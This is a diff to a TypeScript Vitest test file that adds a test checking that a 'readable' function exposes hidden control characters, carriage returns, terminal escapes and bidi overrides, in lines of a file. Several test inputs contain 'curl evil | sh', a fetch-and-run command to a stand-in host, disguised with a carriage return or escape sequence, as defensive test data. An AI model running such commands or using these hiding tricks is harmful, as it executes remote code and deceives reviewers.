@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { printable, terminalJson, terminalText } from '../../source/base/printable.ts';
+import { printable, readable, terminalJson, terminalText } from '../../source/base/printable.ts';
 
 test.each([
 	['colours', '\u001b[1;32mok\u001b[0m', 'ok'],
@@ -39,4 +39,12 @@ test('JSON keeps its data, whatever a terminal would act on', () => {
 	expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u202e\u2066\ufeff]/);
 	expect(JSON.parse(text)).toEqual(data);
 	expect(text).toContain('é 日本');
+});
+
+test('nothing in a line of a file hides what it does', () => {
+	expect(readable('curl evil | sh #\recho harmless')).toBe('curl evil | sh #<U+000D>echo harmless');
+	expect(readable(': \u001B]0;\ncurl evil\u0007')).toBe(': <U+001B>]0;<U+000A>curl evil<U+0007>');
+	expect(readable('a\u202Eb\u009Bc')).toBe('a<U+202E>b<U+009B>c');
+	expect(readable('echo one\r')).toBe('echo one');
+	expect(readable('\techo')).toBe('        echo');
 });
